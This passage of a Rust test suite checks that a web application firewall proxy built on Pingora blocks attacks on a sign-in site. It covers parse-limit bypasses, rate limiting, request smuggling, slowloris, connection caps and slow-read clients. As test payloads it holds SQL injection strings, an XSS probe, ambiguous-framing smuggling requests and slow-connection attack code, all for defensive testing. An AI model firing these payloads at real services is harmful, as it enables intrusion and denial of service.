    ];
    let multipart_post = |part: &[u8]| {
        let mut request = format!(
            "POST /contoso.onmicrosoft.com/B2C_1_signin/SelfAsserted HTTP/1.1\r\n\
             Host: login.contoso.com\r\nContent-Type: multipart/form-data; boundary=XX\r\n\
             Content-Length: {}\r\nConnection: close\r\n\r\n",
            part.len()
        )
        .into_bytes();
        request.extend_from_slice(part);
        proxy.send(&request)
    };
    let charset_field =
        "--XX\r\nContent-Disposition: form-data; name=\"_charset_\"\r\n\r\nutf-16le\r\n";
    for (header, value) in multipart {
        for prefix in ["", charset_field] {
            let mut body = format!(
                "{prefix}--XX\r\nContent-Disposition: form-data; name=\"signInName\"\r\n{header}\r\n\r\n"
            )
            .into_bytes();
            body.extend_from_slice(&value);
            body.extend_from_slice(b"\r\n--XX--\r\n");
            let r = multipart_post(&body);
            assert_eq!(r.status, 400, "{header}: {}", r.raw);
        }
    }
    let r = multipart_post(
        format!("{charset_field}--XX\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nb\r\n--XX--\r\n")
            .as_bytes(),
    );
    assert_eq!(r.status, 400, "{}", r.raw);
    // A compressed body (rule 120116): the rules would read it compressed.
    let r = post(
        "login.contoso.com",
        "application/x-www-form-urlencoded\r\nContent-Encoding: gzip",
        "\u{1f}\u{8b}\u{8}\0",
    );
    assert_eq!(r.status, 415, "{}", r.raw);
    assert!(origin.seen().is_empty(), "{:?}", origin.seen());
    // The same bodies parse as what they are: clean JSON and XML pass.
    let r = post(
        "login.contoso.com",
        "application/json",
        r#"{"signInName":"o'brien@contoso.com"}"#,
    );
    assert_eq!(r.status, 200, "{}", r.raw);
    let r = post(
        "login.contoso.com",
        "application/xml",
        "<?xml version=\"1.0\"?><a>x</a>\n",
    );
    assert_eq!(r.status, 200, "{}", r.raw);
    // A browser's multipart form passes whole: its `_charset_`, a part naming UTF-8, an
    // identity transfer encoding, and the line ending after the final delimiter.
    let form = "--XX\r\nContent-Disposition: form-data; name=\"_charset_\"\r\n\r\nUTF-8\r\n\
                --XX\r\nContent-Disposition: form-data; name=\"displayName\"\r\n\
                Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n\
                Zoë O'Brien\r\n--XX--\r\n\r\n";
    let r = multipart_post(form.as_bytes());
    assert_eq!(r.status, 200, "{}", r.raw);
    assert_eq!(origin.seen().len(), 3);
    assert_eq!(origin.seen()[2].body, form.as_bytes());
    // `invalid_body: inspect`: the rules judge what parsing recovered, and the clean ones pass.
    let r = post("lenient.contoso.com", "application/json", "{\"a\": 1,");
    assert_eq!(r.status, 200, "{}", r.raw);
    assert_eq!(lenient.seen()[0].body, b"{\"a\": 1,");

    let audit = proxy.audit();
    let refused: Vec<_> = audit
        .iter()
        .filter(|l| l["status"] == 400 && l["rules"].as_array().is_some_and(|r| r.is_empty()))
        .collect();
    assert_eq!(refused.len(), invalid.len(), "{audit:?}");
    for line in &refused {
        assert_eq!(line["action"], "blocked", "{line}");
        assert!(
            line["body_error"].as_str().is_some_and(|e| !e.is_empty()),
            "{line}"
        );
    }
    let lenient_line = audit
        .iter()
        .find(|l| l["site"] == "lenient.contoso.com")
        .expect("the lenient site's line");
    assert_eq!(lenient_line["action"], "pass", "{lenient_line}");
    assert!(lenient_line["body_error"].is_string(), "{lenient_line}");
    assert!(audit
        .iter()
        .filter(|l| l["status"] == 200 && l["site"] == "login.contoso.com")
        .all(|l| l.get("body_error").is_none()));
}

/// The bug: each parse limit let an attack past every rule. The parsers drop what lies beyond
/// `max_args` arguments, `max_multipart_parts` parts or `max_json_depth` levels, and the
/// request was forwarded whole: an SQL injection as the 1,001st argument or 33 levels deep in
/// JSON reached the origin (all four passed with 200).
#[test]
fn an_attack_past_a_parse_limit_is_refused_with_400() {
    let origin = Origin::start();
    let proxy = Proxy::start(
        &origin,
        Setup {
            extra_top: "audit: {path: \"{dir}/audit.jsonl\"}\n".into(),
            max_body: 65536,
            ..Setup::default()
        },
    );
    let attack = "x%27%20UNION%20SELECT%20password%20FROM%20users--";
    let args = |n: usize| -> String {
        (0..n)
            .map(|i| format!("a{i}=1&"))
            .chain([format!("z={attack}")])
            .collect()
    };
    let part = "--X\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n1\r\n";
    let deep = |levels: usize| {
        format!(
            "{}\"x' UNION SELECT password FROM users--\"{}",
            "[".repeat(levels),
            "]".repeat(levels)
        )
    };
    let target = "/contoso.onmicrosoft.com/B2C_1_signin/SelfAsserted";
    let r = proxy.get("login.contoso.com", &format!("{target}?{}", args(1000)), "");
    assert_eq!(r.status, 400, "{}", r.raw);
    let r = proxy.post(target, "application/x-www-form-urlencoded", &args(1000));
    assert_eq!(r.status, 400, "{}", r.raw);
    let r = proxy.post(
        target,
        "multipart/form-data; boundary=X",
        &format!(
            "{}--X\r\nContent-Disposition: form-data; name=\"z\"\r\n\r\n\
             x' UNION SELECT password FROM users--\r\n--X--\r\n",
            part.repeat(100)
        ),
    );
    assert_eq!(r.status, 400, "{}", r.raw);
    let r = proxy.post(target, "application/json", &deep(33));
    assert_eq!(r.status, 400, "{}", r.raw);
    assert!(r.header("x-request-id").is_some(), "{}", r.raw);
    assert!(origin.seen().is_empty(), "{:?}", origin.seen());
    let audit = proxy.audit();
    let errors: Vec<&str> = audit
        .iter()
        .filter_map(|line| line["body_error"].as_str())
        .collect();
    assert_eq!(
        errors,
        [
            "more than 1000 arguments; 1 dropped",
            "more than 1000 arguments; 1 dropped",
            "more than 100 multipart parts; the rest was not parsed",
            "JSON nested deeper than 32 levels; the deeper parts were skipped",
        ],
        "{audit:?}"
    );
    // Within the limits the attack is read, and blocked by its rules; a clean request as
    // large passes.
    let r = proxy.post(target, "application/x-www-form-urlencoded", &args(999));
    assert_eq!(r.status, 403, "{}", r.raw);
    let r = proxy.post(target, "application/json", &deep(32));
    assert_eq!(r.status, 403, "{}", r.raw);
    let clean = args(999).replace(attack, "zoe");
    let r = proxy.post(target, "application/x-www-form-urlencoded", &clean);
    assert_eq!(r.status, 200, "{}", r.raw);
    assert_eq!(origin.seen().len(), 1);
    assert_eq!(origin.seen()[0].body, clean.as_bytes());
}

#[test]
fn the_work_stealing_scheduler_forwards_and_blocks_too() {
    let origin = Origin::start();
    let proxy = Proxy::start(
        &origin,
        Setup {
            extra_top: "work_stealing: true\n".into(),
            ..Setup::default()
        },
    );
    let r = proxy.get("login.contoso.com", "/authorize?login_hint=O%27Brien", "");
    assert_eq!(r.status, 200, "{}", r.raw);
    proxy
        .get(
            "login.contoso.com",
            "/authorize?state=1%27%20OR%20%271%27%3D%271",
            "",
        )
        .assert_block_page();
    let r = proxy.post("/login", "application/x-www-form-urlencoded", "a=b");
    assert_eq!(r.status, 200, "{}", r.raw);
    let seen = origin.seen();
    assert_eq!(seen.len(), 2, "{seen:?}");
    assert_eq!(seen[1].body, b"a=b");
}

/// A site with one rate limit: three sign-in POSTs per minute and client.
fn rate_limited_setup<'a>(mode: &'a str) -> Setup<'a> {
    Setup {
        mode,
        trusted: "[127.0.0.0/8]",
        extra_top: "audit: {path: \"{dir}/audit.jsonl\", all_requests: false}\n".into(),
        site_extra: "    rate_limits:\n\
             \x20     - {name: sign-in, methods: [POST], path: '(?i)/selfasserted$', requests: 3, per_seconds: 60}\n"
            .into(),
        ..Setup::default()
    }
}

const SIGN_IN: &str = "/contoso.onmicrosoft.com/B2C_1_signin/SelfAsserted?tx=StateProperties=eyJUSUQiOiIx&p=B2C_1_signin";
const SIGN_IN_BODY: &str = "request_type=RESPONSE&signInName=zoe%40contoso.com&password=hunter2";
const FORM: &str = "application/x-www-form-urlencoded";

/// A sign-in POST to `target` with more header lines, on a fresh connection.
fn post_sign_in(proxy: &Proxy, target: &str, extra: &str) -> Response {
    proxy.send(
        format!(
            "POST {target} HTTP/1.1\r\nHost: login.contoso.com\r\n{extra}Content-Type: {FORM}\r\n\
             Content-Length: {}\r\nConnection: close\r\n\r\n{SIGN_IN_BODY}",
            SIGN_IN_BODY.len()
        )
        .as_bytes(),
    )
}

#[test]
fn sign_in_posts_over_the_rate_limit_get_429_and_never_reach_the_origin() {
    let origin = Origin::start();
    let proxy = Proxy::start(&origin, rate_limited_setup("block"));
    for i in 0..3 {
        let r = proxy.post(SIGN_IN, FORM, SIGN_IN_BODY);
        assert_eq!(r.status, 200, "sign-in {i}: {}", r.raw);
    }
    let r = proxy.post(SIGN_IN, FORM, SIGN_IN_BODY);
    assert_eq!(r.status, 429, "{}", r.raw);
    // One request comes back every 20 s.
    let retry: u64 = r.header("retry-after").unwrap().parse().unwrap();
    assert!((1..=20).contains(&retry), "{retry}");
    assert!(r.header("x-request-id").is_some());
    assert!(r.body.contains("Too Many Requests"), "{}", r.body);
    assert_eq!(origin.seen().len(), 3);

    // The path is matched percent-decoded; JSON for a client that asks for it.
    let r = post_sign_in(
        &proxy,
        "/contoso.onmicrosoft.com/B2C_1_signin/SelfAssert%65d",
        "Accept: application/json\r\n",
    );
    assert_eq!(r.status, 429, "{}", r.raw);
    let json: serde_json::Value = serde_json::from_str(&r.body).unwrap();
    assert_eq!(json["status"], 429);
    assert_eq!(json["error"], "too many requests");
    // And normalised: the spellings the server resolves to the same endpoint count too (they
    // went uncounted past `(?i)/selfasserted$`).
    for other in [
        "/contoso.onmicrosoft.com/B2C_1_signin/SelfAsserted/",
        "/contoso.onmicrosoft.com/B2C_1_signin/SelfAsserted/.?tx=1",
        "/contoso.onmicrosoft.com/B2C_1_signin//x/../SelfAsserted",
    ] {
        let r = post_sign_in(&proxy, other, "");
        assert_eq!(r.status, 429, "{other}: {}", r.raw);
    }

    // Other requests are not counted: a GET of the same path, a POST elsewhere.
    let r = proxy.get("login.contoso.com", SIGN_IN, "");
    assert_eq!(r.status, 200, "{}", r.raw);
    let r = proxy.post(
        "/contoso.onmicrosoft.com/oauth2/v2.0/token",
        FORM,
        "grant_type=x",
    );
    assert_eq!(r.status, 200, "{}", r.raw);
    // The budget is the client's: another client behind the trusted proxy has its own.
    let client = |ip: &str| post_sign_in(&proxy, SIGN_IN, &format!("X-Forwarded-For: {ip}\r\n"));
    assert_eq!(client("203.0.113.5").status, 200);
    // A reload that leaves the limit as it was keeps its counts.
    let r = proxy.admin("POST", "/reload");
    assert_eq!(r.status, 200, "{}", r.raw);
    assert_eq!(proxy.post(SIGN_IN, FORM, SIGN_IN_BODY).status, 429);
    // So does one that changes the site's host names, so long as it keeps one of them (the
    // site's name, its first host, changes here).
    let config = std::fs::read_to_string(proxy.config_path()).unwrap();
    let renamed = config.replace(
        "hosts: [login.contoso.com, Other.Contoso.com]",
        "hosts: [auth.contoso.com, login.contoso.com]",
    );
    assert_ne!(config, renamed);
    std::fs::write(proxy.config_path(), renamed).unwrap();
    let r = proxy.admin("POST", "/reload");
    assert_eq!(r.status, 200, "{}", r.raw);
    assert_eq!(proxy.post(SIGN_IN, FORM, SIGN_IN_BODY).status, 429);
    assert_eq!(origin.seen().len(), 6);

    let (before, after) = ("site=\"login.contoso.com\"", "site=\"auth.contoso.com\"");
    for (site, limited) in [(before, 6.0), (after, 1.0)] {
        assert_eq!(
            proxy.metric(&format!(
                "waf_rate_limited_total{{limit=\"sign-in\",{site}}}"
            )),
            limited
        );
        assert_eq!(
            proxy.metric(&format!("waf_requests_total{{action=\"limited\",{site}}}")),
            limited
        );
    }
    let audit = proxy.audit();
    let limited: Vec<_> = audit.iter().filter(|l| l["action"] == "limited").collect();
    assert_eq!(limited.len(), 7, "{audit:?}");
    assert!(limited
        .iter()
        .all(|l| l["rate_limit"] == "sign-in" && l["status"] == 429 && l["body"] == "not read"));
}

#[test]
fn detect_only_forwards_requests_over_the_rate_limit_and_logs_them() {
    let origin = Origin::start();
    let proxy = Proxy::start(&origin, rate_limited_setup("detect_only"));
    for i in 0..5 {
        let r = proxy.post(SIGN_IN, FORM, SIGN_IN_BODY);
        assert_eq!(r.status, 200, "sign-in {i}: {}", r.raw);
    }
    assert_eq!(origin.seen().len(), 5);
    let audit = proxy.audit();
    assert_eq!(audit.len(), 2, "the two over the limit: {audit:?}");
    for line in &audit {
        assert_eq!(line["action"], "detected");
        assert_eq!(line["rate_limit"], "sign-in");
        assert_eq!(line["upstream_status"], 200);
    }
    let site = "site=\"login.contoso.com\"";
    assert_eq!(
        proxy.metric(&format!(
            "waf_rate_limited_total{{limit=\"sign-in\",{site}}}"
        )),
        2.0
    );
    // The sweeper (every 5 s) publishes how many clients the limit counts: the one client,
    // whose budget is still short.
    let gauge = format!("waf_rate_limit_clients{{limit=\"sign-in\",{site}}}");
    proxy.wait_until(Duration::from_secs(15), || proxy.metric(&gauge) == 1.0);
}

#[test]
fn a_rate_limit_counting_max_clients_lets_new_clients_through_uncounted() {
    let origin = Origin::start();
    let proxy = Proxy::start(
        &origin,
        Setup {
            site_extra: "    rate_limits:\n\
                 \x20     - {name: sign-in, methods: [POST], requests: 1, per_seconds: 600, max_clients: 2}\n"
                .into(),
            ..rate_limited_setup("block")
        },
    );
    let client = |ip: &str| post_sign_in(&proxy, SIGN_IN, &format!("X-Forwarded-For: {ip}\r\n"));
    // Two clients fill the limit; each is counted and limited.
    for ip in ["203.0.113.1", "203.0.113.2"] {
        assert_eq!(client(ip).status, 200, "{ip}");
        assert_eq!(client(ip).status, 429, "{ip}");
    }
    // A third is not counted: its requests go on to the rules and the origin. An attack in
    // one is still blocked by them.
    for i in 0..4 {
        let r = client("203.0.113.3");
        assert_eq!(r.status, 200, "request {i}: {}", r.raw);
    }
    let attack = proxy.send(
        b"GET /authorize?q=1%27%20OR%201%3D1-- HTTP/1.1\r\nHost: login.contoso.com\r\n\
          X-Forwarded-For: 203.0.113.3\r\nConnection: close\r\n\r\n",
    );
    assert_eq!(attack.status, 403, "{}", attack.raw);
    // The first two stay limited.
    assert_eq!(client("203.0.113.1").status, 429);
    assert_eq!(origin.seen().len(), 2 + 4);

    let site = "site=\"login.contoso.com\"";
    assert_eq!(
        proxy.metric(&format!(
            "waf_rate_limit_uncounted_total{{limit=\"sign-in\",{site}}}"
        )),
        4.0
    );
    assert_eq!(
        proxy.metric(&format!(
            "waf_rate_limited_total{{limit=\"sign-in\",{site}}}"
        )),
        3.0
    );
    // The sweep (every 5 s) finds the limit full, publishes its two clients and says so.
    let gauge = format!("waf_rate_limit_clients{{limit=\"sign-in\",{site}}}");
    proxy.wait_until(Duration::from_secs(15), || {
        proxy.metric(&gauge) == 2.0 && proxy.log().contains("rate limit full")
    });
}

/// Request smuggling: framing the proxy and the upstream could read differently. A WAF that
/// reads one body while the upstream reads another, or a second request hidden in the first,
/// is bypassed. Pingora's HTTP/1 parser does the refusing; this holds it to that across
/// upgrades.
#[test]
fn ambiguous_framing_is_refused_and_never_reaches_the_origin() {
    let origin = Origin::start();
    let proxy = Proxy::start(&origin, Setup::default());
    let head = "POST /login HTTP/1.1\r\nHost: login.contoso.com\r\nConnection: close\r\n";
    let refused = [
        ("two Content-Lengths", "Content-Length: 4\r\nContent-Length: 40\r\n\r\nabcd"),
        ("a Content-Length list", "Content-Length: 4, 4\r\n\r\nabcd"),
        ("a signed Content-Length", "Content-Length: +4\r\n\r\nabcd"),
        ("an unknown coding", "Transfer-Encoding: xchunked\r\n\r\n4\r\nabcd\r\n0\r\n\r\n"),
        ("chunked not last", "Transfer-Encoding: chunked, identity\r\n\r\n4\r\nabcd\r\n0\r\n\r\n"),
        (
            "Transfer-Encoding twice",
            "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n4\r\nabcd\r\n0\r\n\r\n",
        ),
        ("a space before the colon", "Transfer-Encoding : chunked\r\n\r\n4\r\nabcd\r\n0\r\n\r\n"),
        ("a folded header", "Transfer-Encoding:\r\n chunked\r\n\r\n4\r\nabcd\r\n0\r\n\r\n"),
        ("a bare LF after a chunk size", "Transfer-Encoding: chunked\r\n\r\n4;x\nabcd\r\n0\r\n\r\n"),
    ];
    for (what, rest) in refused {
        let r = proxy.send(format!("{head}{rest}").as_bytes());
        assert_eq!(r.status, 400, "{what}: {}", r.raw);
    }
    assert!(origin.seen().is_empty(), "{:?}", origin.seen());

    // Content-Length beside chunked: the chunked body is the one read, inspected and
    // forwarded, without the Content-Length, and what follows it is not a second request.
    let r = proxy.send(
        format!(
            "{head}Content-Length: 100\r\nTransfer-Encoding: chunked\r\n\r\n\
             4\r\nabcd\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: login.contoso.com\r\n\r\n"
        )
        .as_bytes(),
    );
    assert_eq!(r.status, 200, "{}", r.raw);
    let seen = origin.seen();
    assert_eq!(seen.len(), 1, "{seen:?}");
    assert_eq!(seen[0].body, b"abcd");
    assert_ne!(seen[0].header("content-length"), Some("100"));
}

/// A head that does not parse is answered by Pingora's HTTP/1 server, with its bare 400,
/// before any hook of the proxy's: it has no audit line, and Pingora logs it at debug level
/// only. Smuggling probes and hand-made attacks went unseen; they are client faults now,
/// counted and summed up.
#[test]
fn heads_pingora_refuses_are_counted_as_client_faults() {
    let origin = Origin::start();
    let proxy = Proxy::start(
        &origin,
        Setup {
            extra_top: "client_faults_log_seconds: 1\n".into(),
            ..Setup::default()
        },
    );
    for head in [
        "GET /authorize?q=<script>alert(1)</script> HTTP/1.1\r\nHost: login.contoso.com\r\n\r\n",
        "GET / HTTP/1.1\r\nHost: login.contoso.com\r\nno colon here\r\n\r\n",
        "POST / HTTP/1.1\r\nHost: login.contoso.com\r\nContent-Length: 4\r\n\
         Content-Length: 40\r\n\r\nabcd",
    ] {
        let r = proxy.send(head.as_bytes());
        assert_eq!(r.status, 400, "{head}: {}", r.raw);
        // Pingora's answer, not the proxy's.
        assert_eq!(r.header("x-request-id"), None, "{head}: {}", r.raw);
    }
    assert!(origin.seen().is_empty(), "{:?}", origin.seen());
    proxy.wait_until(Duration::from_secs(10), || {
        proxy.metric("waf_client_faults_total{kind=\"malformed_head\"}") == 3.0
            && proxy
                .log()
                .contains("3 malformed request heads refused; the last: ")
    });
    let log = proxy.log();
    assert!(
        !log.contains(" ERROR ") && !log.contains(" DEBUG "),
        "{log}"
    );
    // A clean request is no fault.
    let r = proxy.get("login.contoso.com", "/authorize?q=1", "");
    assert_eq!(r.status, 200, "{}", r.raw);
    assert_eq!(
        proxy.metric("waf_client_faults_total{kind=\"malformed_head\"}"),
        3.0
    );
}

/// Slowloris: a head sent a byte at a time that never ends. Pingora times out each read of a
/// head, not the head, so such a connection stayed open for as long as the bytes kept coming.
#[test]
fn slowloris_a_head_not_complete_within_the_header_timeout_loses_its_connection() {
    let origin = Origin::start();
    let proxy = Proxy::start(
        &origin,
        Setup {
            limits_extra: "  header_timeout_ms: 1000\n".into(),
            ..Setup::default()
        },
    );
    let mut s = TcpStream::connect(("127.0.0.1", proxy.port)).unwrap();
    s.set_read_timeout(Some(Duration::from_millis(100)))
        .unwrap();
    s.write_all(b"GET /authorize HTTP/1.1\r\nHost: login.contoso.com\r\n")
        .unwrap();
    let started = Instant::now();
    let closed_after = loop {
        assert!(
            started.elapsed() < Duration::from_secs(10),
            "the connection stayed open: {}",
            proxy.log()
        );
        // One more byte of a header line every 200 ms: no read waits long, the head never ends.
        if s.write_all(b"X").is_err() {
            break started.elapsed();
        }
        let mut buf = [0u8; 256];
        match s.read(&mut buf) {
            Ok(0) => break started.elapsed(),
            Ok(n) => panic!(
                "an answer to a head that is not complete: {:?}",
                String::from_utf8_lossy(&buf[..n])
            ),
            Err(e) if matches!(e.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => {}
            Err(_) => break started.elapsed(),
        }
        std::thread::sleep(Duration::from_millis(100));
    };
    assert!(
        closed_after >= Duration::from_millis(900),
        "{closed_after:?}"
    );
    assert!(origin.seen().is_empty());
    assert_eq!(proxy.metric("waf_request_head_timeouts_total"), 1.0);

    // A head in two pieces within the deadline is served. So is the next request on the same
    // connection after a pause longer than the deadline: between requests the idle timeout
    // (60 s here) applies instead. And a `100 Continue` does not end the exchange: the body
    // after it is not taken for the next head.
    let mut s = TcpStream::connect(("127.0.0.1", proxy.port)).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    s.write_all(b"GET /authorize?step=1 HTTP/1.1\r\nHost: login.")
        .unwrap();
    std::thread::sleep(Duration::from_millis(300));
    s.write_all(b"contoso.com\r\n\r\n").unwrap();
    let r = Response::read_from(&mut s);
    assert_eq!(r.status, 200, "{}", r.raw);
    std::thread::sleep(Duration::from_millis(1500));
    s.write_all(
        b"POST /login HTTP/1.1\r\nHost: login.contoso.com\r\nExpect: 100-continue\r\n\
          Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 11\r\n\r\n",
    )
    .unwrap();
    let interim = Response::read_head(&mut s);
    assert_eq!(interim.status, 100, "{}", interim.raw);
    std::thread::sleep(Duration::from_millis(1500));
    s.write_all(b"name=zoe&x").unwrap();
    std::thread::sleep(Duration::from_millis(100));
    s.write_all(b"=").unwrap();
    let r = Response::read_from(&mut s);
    assert_eq!(r.status, 200, "{}", r.raw);
    let seen = origin.seen();
    assert_eq!(seen.len(), 2, "{seen:?}");
    assert_eq!(seen[1].body, b"name=zoe&x=");
    assert_eq!(proxy.metric("waf_request_head_timeouts_total"), 1.0);
}

/// One address opening connections by the thousand holds the file descriptors everyone else
/// needs; `max_connections_per_client` caps what one client holds at once.
#[test]
fn connections_over_max_connections_per_client_are_closed_unread() {
    let origin = Origin::start();
    let setup = |trusted| Setup {
        trusted,
        limits_extra: "  max_connections_per_client: 2\n".into(),
        ..Setup::default()
    };
    let proxy = Proxy::start(&origin, setup("[]"));
    let connect = || {
        let s = TcpStream::connect(("127.0.0.1", proxy.port)).unwrap();
        s.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
        s
    };
    let wait_for_open = |n: f64| {
        proxy.wait_until(Duration::from_secs(5), || {
            proxy.metric("waf_client_connections") == n
        })
    };
    let get = |s: &mut TcpStream| {
        s.write_all(b"GET /authorize HTTP/1.1\r\nHost: login.contoso.com\r\n\r\n")
            .unwrap();
        Response::read_from(s).status
    };
    let mut a = connect();
    let b = connect();
    wait_for_open(2.0);
    // A third is closed at once, before anything is read from it.
    let mut c = connect();
    let mut buf = [0u8; 64];
    assert!(matches!(c.read(&mut buf), Ok(0) | Err(_)));
    assert_eq!(
        proxy.metric("waf_connections_refused_total{limit=\"max_connections_per_client\"}"),
        1.0
    );
    // The two it holds still serve; when one closes, the client may open another.
    assert_eq!(get(&mut a), 200);
    drop(b);
    wait_for_open(1.0);
    let mut d = connect();
    assert_eq!(get(&mut d), 200);
    assert_eq!(origin.seen().len(), 2);

    // A trusted proxy in front carries everyone's connections: it is never capped.
    let behind_cdn = Proxy::start(&origin, setup("[127.0.0.0/8]"));
    let mut held: Vec<TcpStream> = (0..4)
        .map(|_| TcpStream::connect(("127.0.0.1", behind_cdn.port)).unwrap())
        .collect();
    for s in &mut held {
        s.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
        assert_eq!(get(s), 200);
    }
    assert_eq!(
        behind_cdn.metric("waf_connections_refused_total{limit=\"max_connections_per_client\"}"),
        0.0
    );
}

/// An HTTP/1 connection carries at most `limits.keepalive_requests` requests, as an nginx
/// client connection carries `keepalive_requests`: the last one's answer says
/// `Connection: close` and the connection closes. Pingora's default is no limit.
#[test]
fn a_connection_carries_at_most_keepalive_requests_requests() {
    let origin = Origin::start();
    let proxy = Proxy::start(
        &origin,
        Setup {
            limits_extra: "  keepalive_requests: 3\n".into(),
            ..Setup::default()
        },
    );
    let request = |target: &str| {
        format!("GET {target} HTTP/1.1\r\nHost: login.contoso.com\r\n\r\n").into_bytes()
    };
    let mut s = TcpStream::connect(("127.0.0.1", proxy.port)).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    let mut answers = Vec::new();
    for target in ["/first", "/second", "/third"] {
        s.write_all(&request(target)).unwrap();
        answers.push(Response::read_from(&mut s));
    }
    let statuses: Vec<u16> = answers.iter().map(|r| r.status).collect();
    assert_eq!(statuses, [200, 200, 200]);
    let closing: Vec<bool> = answers
        .iter()
        .map(|r| {
            r.header("connection")
                .is_some_and(|v| v.eq_ignore_ascii_case("close"))
        })
        .collect();
    assert_eq!(closing, [false, false, true], "{:?}", answers.last());
    // The connection is closed after the third answer: a fourth request on it gets nothing.
    let _ = s.write_all(&request("/fourth"));
    let mut rest = Vec::new();
    let read = s.read_to_end(&mut rest);
    assert!(
        matches!(read, Ok(0)) || read.is_err(),
        "{read:?}: {}",
        String::from_utf8_lossy(&rest)
    );
    let targets: Vec<String> = origin.seen().into_iter().map(|r| r.target).collect();
    assert_eq!(targets, ["/first", "/second", "/third"]);
    // A new connection starts a new count.
    assert_eq!(proxy.get("login.contoso.com", "/fifth", "").status, 200);
}

/// An upstream of the test's own for `slow.contoso.com`: `serve` answers its first
/// connection, on a thread of its own. The `sites:` entry that forwards to it.
fn slow_site(serve: impl FnOnce(TcpStream) + Send + 'static) -> String {
    let upstream = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = upstream.local_addr().unwrap().port();
    std::thread::spawn(move || {
        if let Ok((c, _)) = upstream.accept() {
            serve(c);
        }
    });
    format!("  - hosts: [slow.contoso.com]\n    upstream: {{address: \"127.0.0.1:{port}\"}}\n")
}

/// A response that takes longer to send than the idle timeout (a slow upstream, a slow link)
/// arrives whole: a connection is idle from its last write, not from its response's first.
#[test]
fn a_response_slower_than_the_idle_timeout_arrives_whole() {
    // An upstream that sends its 12-byte body a byte every 200 ms: 2.4 s.
    let slow = slow_site(|mut c| {
        common::read_request_head(&mut c);
        let _ = c.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 12\r\n\r\n");
        for b in b"slow, whole!" {
            std::thread::sleep(Duration::from_millis(200));
            let _ = c.write_all(&[*b]);
        }
        std::thread::sleep(Duration::from_secs(1));
    });
    let origin = Origin::start();
    let proxy = Proxy::start(
        &origin,
        Setup {
            limits_extra: "  idle_timeout_ms: 1000\n".into(),
            extra_sites: slow,
            ..Setup::default()
        },
    );
    let mut s = TcpStream::connect(("127.0.0.1", proxy.port)).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
    s.write_all(b"GET /download HTTP/1.1\r\nHost: slow.contoso.com\r\n\r\n")
        .unwrap();
    let started = Instant::now();
    let r = Response::read_from(&mut s);
    assert_eq!(r.status, 200, "{}", r.raw);
    assert_eq!(r.body, "slow, whole!");
    assert!(started.elapsed() > Duration::from_secs(2));
}

/// A client that takes no bytes of its answer (a slow-read attack, or a client gone without a
/// word) is cut off after `limits.send_timeout_ms`, as nginx does after `send_timeout`. Pingora
/// waited for it for ever, holding the connection and the answer's buffers.
#[test]
fn a_client_that_reads_nothing_of_its_answer_is_cut_off_after_the_send_timeout() {
    // An answer much larger than what the sockets between hold: the proxy's writes stall.
    const BODY: usize = 64 << 20;
    let slow = slow_site(|mut c| {
        common::read_request_head(&mut c);
        let _ =
            c.write_all(format!("HTTP/1.1 200 OK\r\nContent-Length: {BODY}\r\n\r\n").as_bytes());
        let chunk = vec![b'x'; 1 << 20];
        for _ in 0..BODY >> 20 {
            if c.write_all(&chunk).is_err() {
                return;
            }
        }
    });
    let origin = Origin::start();
    let proxy = Proxy::start(
        &origin,
        Setup {
            limits_extra: "  send_timeout_ms: 1000\n".into(),
            extra_sites: slow,
            ..Setup::default()
        },
    );
    let mut s = TcpStream::connect(("127.0.0.1", proxy.port)).unwrap();
    s.write_all(b"GET /big HTTP/1.1\r\nHost: slow.contoso.com\r\nConnection: close\r\n\r\n")
        .unwrap();
    // Not a byte read for three times the timeout.
    std::thread::sleep(Duration::from_secs(3));
    s.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
    let mut received = 0usize;
    let mut buf = vec![0u8; 1 << 16];
    let end = loop {
        match s.read(&mut buf) {
            Ok(0) => break "closed",
            Ok(n) => received += n,
            Err(e) if e.kind() == ErrorKind::ConnectionReset => break "reset",
            Err(e) => panic!("{e} after {received} bytes"),
        }
    };
    assert!(
        received < BODY,
        "the whole answer arrived ({received} bytes): the proxy waited for the client"
    );
    // Counted as a client fault, not blamed on the upstream.
    proxy.wait_until(Duration::from_secs(5), || {
        proxy.metric("waf_client_faults_total{kind=\"abandoned\"}") >= 1.0
    });
    assert_eq!(
        proxy.metric("waf_upstream_errors_total{site=\"slow.contoso.com\"}"),
        0.0,
        "{end}"
    );
}

/// Sends `head`, then `piece` every 100 ms (nothing if it is empty), until the proxy answers
/// with one of its pages or closes, or 10 s have passed: the answer and when it came.
fn trickle(port: u16, head: &[u8], piece: &[u8]) -> (Vec<u8>, Duration) {
    let mut s = TcpStream::connect(("127.0.0.1", port)).unwrap();
    s.set_read_timeout(Some(Duration::from_millis(100)))
        .unwrap();
    s.write_all(head).unwrap();
    let started = Instant::now();
    let mut answer = Vec::new();
    while !answer.ends_with(b"</html>") && started.elapsed() < Duration::from_secs(10) {
        if !piece.is_empty() {
            let _ = s.write_all(piece);
        }
        let mut buf = [0u8; 4096];
        match s.read(&mut buf) {
            Ok(0) => break,
            Ok(n) => answer.extend_from_slice(&buf[..n]),
            Err(e) if matches!(e.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => {}
            Err(e) => panic!("{e}: {}", String::from_utf8_lossy(&answer)),
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    (answer, started.elapsed())
}

/// A client that leaves while its answer is on the way (a tab closed during a slow sign-in)
/// got one of Pingora's `ERROR` lines. It is a client fault: counted, not logged, and not
/// blamed on the upstream.
#[test]
fn a_client_that_leaves_while_the_upstream_answers_is_counted_not_logged() {
    // An upstream that takes a second to answer.
    let slow = slow_site(|mut c| {
        let _ = c.read(&mut [0u8; 4096]);
        std::thread::sleep(Duration::from_secs(1));
